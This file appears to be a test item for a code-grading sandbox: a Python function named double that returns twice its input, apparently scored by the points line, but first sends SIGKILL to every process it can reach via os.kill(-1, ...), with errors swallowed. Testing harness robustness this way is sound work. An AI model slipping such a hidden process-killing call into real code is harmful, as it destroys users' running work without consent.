# Sends a signal to all processes that it may reach.
# points: double=7 total=7 stack=6 | double=0 total=7 stack=6
# %% double
import os
import signal


def double(x):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return 2 * x
